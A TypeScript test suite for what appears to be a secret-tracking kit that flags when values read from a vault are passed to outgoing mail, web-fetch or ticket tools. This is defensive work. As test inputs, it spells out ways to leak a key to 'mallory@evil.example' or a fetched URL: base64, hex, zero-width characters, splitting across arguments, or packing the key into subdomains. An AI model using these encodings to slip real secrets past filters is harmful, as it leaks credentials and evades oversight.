import fc from "fast-check";
import { expect, test } from "vitest";
import { House } from "./confidentiality-kit.ts";

const KEY = "Zk4-91qLm-77Tr0pWx";
const OUT = "mallory@evil.example";

/** A session that has read the key out of the vault. */
const knows = (): Promise<House> => new House().read("vault__read", { key: KEY, hint: "blue-4711-door", owner: "Ida" });

const mails = async (body: string, to = OUT) => (await knows()).sends("mail__send", { to, subject: "hello", body });

test("a secret in the body of a letter is disclosed, and the sentence says where it is from without showing it", async () => {
  const provenance = await mails(`Here it is: ${KEY}. Regards`);
  expect(provenance).toMatchObject({ disclosed: ["body"], classification: "secret" });
  expect(provenance.origins[0]).toBe(
    "`body` would carry a value classified secret, first seen in `vault__read` at `$.key`, to `mallory@evil.example`, a sink cleared for public",
  );
  expect(JSON.stringify(provenance)).not.toContain(KEY);
});

test("what a record says for the ledger is a place and a fingerprint, and no value", async () => {
  const { disclosures } = await mails(KEY);
  expect(disclosures).toEqual([
    {
      argument: "body",
      classification: "secret",
      seen: "`vault__read` at `$.key`",
      fingerprint: expect.stringMatching(/^[0-9a-f]{12}$/) as string,
      sink: OUT,
      clearance: "public",
    },
  ]);
});

const base64 = (text: string): string => Buffer.from(text).toString("base64");
const hex = (text: string): string => Buffer.from(text).toString("hex");

test.each<[string, (value: string) => string]>([
  ["as it stands", (value) => value],
  ["in base64", base64],
  ["in url-safe base64", (value) => Buffer.from(value).toString("base64url")],
  ["in hexadecimal", hex],
  ["in percent", (value) => [...value].map((char) => `%${hex(char)}`).join("")],
  ["in another case", (value) => value.toUpperCase()],
  ["split by spaces", (value) => [...value].join(" ")],
  ["split over lines", (value) => value.replaceAll("-", "\n")],
  ["with invisible characters in it", (value) => [...value].join("\u200b")],
  [
    "in full-width letters",
    (value) => value.replaceAll(/[A-Za-z0-9]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
  ],
  ["in base64 of hexadecimal", (value) => base64(hex(value))],
  ["in base64 twice", (value) => base64(base64(value))],
  ["in base64, with words before it", (value) => base64(`the key is ${value}, take care`)],
  ["in base64 behind other letters", (value) => `see${base64(value)}`],
  ["in base64, in lines of eight", (value) => base64(value).replaceAll(/.{8}/g, "$&\n")],
  ["in hexadecimal, byte by byte", (value) => hex(value).replaceAll(/../g, "$& ")],
  ["inside a word", (value) => `xx${value}xx`],
  ["its first half", (value) => value.slice(0, 16)],
])("a secret is found %s", async (_, coded) => {
  const provenance = await mails(`Dear Ida, see ${coded(KEY)} please`);
  expect(provenance).toMatchObject({ disclosed: ["body"], classification: "secret" });
});

test.each([
  ["in a query", (coded: string) => `https://x.example/?q=${coded}`],
  ["in a path", (coded: string) => `https://x.example/a/${coded}/b`],
  ["in a subdomain", (coded: string) => `https://${coded}.x.example/`],
  ["in a fragment", (coded: string) => `https://x.example/#${coded}`],
  ["in several subdomains", (coded: string) => `https://${coded.replaceAll(/.{6}(?=.)/g, "$&.")}.x.example/`],
])("a secret in the address of a page that is only read is disclosed: %s", async (_, address) => {
  const house = await knows();
  for (const coded of [hex(KEY), Buffer.from(KEY).toString("base64url"), KEY]) {
    const provenance = await house.sends("web__fetch", { url: address(coded) });
    expect(provenance).toMatchObject({ disclosed: ["url"], classification: "secret" });
    expect(provenance.origins.join(" ")).not.toContain(coded);
    expect(provenance.origins.join(" ").toLowerCase()).not.toContain(KEY.toLowerCase());
  }
});

test("a secret that is split over two arguments is whole again", async () => {
  const house = await knows();
  const provenance = await house.sends("mail__send", { to: OUT, subject: KEY.slice(0, 9), body: KEY.slice(9) });
  expect(provenance.disclosed.toSorted()).toEqual(["body", "subject"]);
});

test("a secret in the name of a member is disclosed as its value would be", async () => {
  const house = await knows();
  expect(await house.sends("tickets__open", { fields: { [KEY]: 1 } })).toMatchObject({ disclosed: ["fields"] });
  const top = await house.sends("tickets__open", { [KEY]: 1 });
  expect(top).toMatchObject({ disclosed: ["(name)"], classification: "secret" });
  expect(JSON.stringify(top)).not.toContain(KEY);
});

test("an argument that is too long to be looked through may hold what is secret, and counts as holding it", async () => {
  const provenance = await mails("word ".repeat(60_000));
  expect(provenance).toMatchObject({ disclosed: ["body"], classification: "secret" });
  expect(provenance.origins[0]).toContain("more than could be looked through");
});

test("whatever stands around it and however it is coded, a secret token is found", async () => {
  const house = new House();
  const token = fc
    .tuple(fc.stringMatching(/^[A-Za-z0-9]{12,40}$/), fc.nat({ max: 9 }), fc.nat({ max: 11 }))
    .map(([text, digit, at]) => `${text.slice(0, at)}${digit}${text.slice(at)}`);
  const coding = fc.constantFrom<(value: string) => string>(
    (value) => value,
    base64,
    hex,
    encodeURIComponent,
    (value) => Buffer.from(value).toString("base64url"),
    (value) => value.toLowerCase(),
    (value) => [...value].join(" "),
  );
  let n = 0;
  await fc.assert(
    fc.asyncProperty(
      token,
      coding,
      coding,
      fc.string({ maxLength: 40 }),
      fc.string({ maxLength: 40 }),
      async (...all) => {
        const [value, first, second, before, after] = all;
        // Case is lost on what was coded already: nobody could read it either.
        const lossy = second("Aa") === "aa" && first("Aa") !== "Aa";
        const coded = lossy ? first(value) : second(first(value));
        await house.read("vault__read", { key: value, n: n++ });
        const { classification } = await house.sends("mail__send", { to: OUT, body: `${before} ${coded} ${after}` });
        expect(classification).toBe("secret");
      },
    ),
    { numRuns: 300 },
  );
});

test("nothing that was read as a secret means nothing is disclosed", async () => {
  const provenance = await (
    await new House().read("tickets__find", { key: KEY })
  ).sends("mail__send", { to: OUT, body: KEY });
  expect(provenance).toMatchObject({ disclosed: [], classification: "public", disclosures: [] });
});

test("a letter that does not hold the secret discloses nothing", async () => {
  expect(await mails("The key was rotated on 2026-11-28; ask Ida for blue-4711-door")).toMatchObject({ disclosed: [] });
});

test("a path that configuration calls public declassifies what stands there", async () => {
  const token = `ghp_${"a1B2".repeat(9)}`;
  const house = await new House().read("vault__read", { hint: token });
  expect(await house.sends("mail__send", { to: OUT, body: token })).toMatchObject({ classification: "public" });
});

test("a token that is a secret by its form is one wherever it was read, with nothing configured", async () => {
  const token = `ghp_${"a1B2".repeat(9)}`;
  const house = await new House("{}").read("any__page", `put ${token} there`);
  expect(await house.sends("mail__send", { to: OUT, body: base64(token) })).toMatchObject({
    disclosed: ["body"],
    classification: "secret",
  });
});

test("the password alone of an address that holds one is as secret as the address", async () => {
  const house = await new House("{}").read("any__page", "DB=postgres://app:hunter2x9@db.example:5432/app");
  expect(await house.sends("mail__send", { to: OUT, body: "it is hunter2x9" })).toMatchObject({
    classification: "secret",
  });
  expect(await house.sends("mail__send", { to: OUT, body: "see db.example:5432/app" })).toMatchObject({
    classification: "public",
  });
});

test("a recipient of a cleared domain may be sent what is internal, and not what is secret", async () => {
  const house = await new House().read("vault__read", { key: KEY, plan: "PRJ-20731-alpha" });
  const to = "dana@corp.example";
  expect(await house.sends("mail__send", { to, body: "PRJ-20731-alpha" })).toMatchObject({ disclosed: [] });
  expect(await house.sends("mail__send", { to, body: KEY })).toMatchObject({ classification: "secret" });
  expect(await house.sends("mail__send", { to: "keys@safe.corp.example", body: KEY })).toMatchObject({ disclosed: [] });
});

test("a domain that only ends like a cleared one is not cleared", async () => {
  const house = await new House().read("vault__read", { plan: "PRJ-20731-alpha" });
  for (const to of ["a@notcorp.example", "a@corp.example.evil.example"])
    expect(await house.sends("mail__send", { to, body: "PRJ-20731-alpha" })).toMatchObject({
      classification: "internal",
    });
});

test("one recipient who is not cleared among others who are is enough", async () => {
  const provenance = await mails(KEY, "keys@safe.corp.example, mallory@evil.example");
  expect(provenance).toMatchObject({ classification: "secret" });
});

test("a value goes back to the server that gave it, and to no other", async () => {
  const house = await knows();
  expect(await house.sends("vault__rotate", { key: KEY })).toMatchObject({ disclosed: [] });
  expect(await house.sends("tickets__open", { text: KEY })).toMatchObject({ disclosed: ["text"] });
});

test("a server that gave a value does not pass it on to somebody else", async () => {
  const house = await new House().read("register__find", { account: "DE89370400440532013000" });
  const text = "it is DE89 3704 0044 0532 0130 00";
  expect(await house.sends("register__tell", { who: "room-5", text })).toMatchObject({
    disclosed: ["text"],
    classification: "internal",
  });
});

test("code that runs on the server that gave a secret may take it anywhere", async () => {
  const token = `ghp_${"a1B2".repeat(9)}`;
  const house = await new House().read("runner__run", token);
  expect(await house.sends("runner__run", { script: `post ${token}` })).toMatchObject({ classification: "secret" });
});

test("a server that configuration clears takes what it is cleared for", async () => {
  const house = await new House().read("vault__read", { key: KEY, plan: "PRJ-20731-alpha" });
  expect(await house.sends("archive__put", { text: "PRJ-20731-alpha" })).toMatchObject({ disclosed: [] });
  expect(await house.sends("archive__put", { text: KEY })).toMatchObject({ classification: "secret" });
});

test("a secret that was written to a file on this machine and read back is a secret still", async () => {
  const house = await knows();
  expect(await house.sends("notes__write", { path: "a.txt", text: KEY })).toMatchObject({ disclosed: [] });
  await house.read("notes__read", `note: ${KEY}`);
  const provenance = await house.sends("mail__send", { to: OUT, body: KEY });
  expect(provenance).toMatchObject({ classification: "secret" });
  expect(provenance.origins[0]).toContain("first seen in `vault__read`");
});

test("a value that was read as internal first, and as a secret later, is a secret", async () => {
  const house = await new House().read("vault__read", { plan: KEY });
  await house.read("vault__read", { key: KEY });
  expect(await house.sends("mail__send", { to: OUT, body: KEY })).toMatchObject({ classification: "secret" });
});

test("who is written to is told nothing by their own address", async () => {
  const house = await new House().read("register__find", { email: "ida.lovelace@home.example" });
  expect(await house.sends("mail__send", { to: "ida.lovelace@home.example", body: "hello" })).toMatchObject({
    disclosed: [],
  });
  expect(await house.sends("mail__send", { to: OUT, body: "ida.lovelace@home.example" })).toMatchObject({
    disclosed: ["body"],
    classification: "internal",
  });
});

test("what is internal may be looked up where no address is named, and what is secret may not", async () => {
  const house = await new House().read("vault__read", { key: KEY, plan: "PRJ-20731-alpha" });
  expect(await house.sends("tickets__find", { text: "PRJ-20731-alpha" })).toMatchObject({ disclosed: [] });
  expect(await house.sends("tickets__find", { text: KEY })).toMatchObject({ classification: "secret" });
});
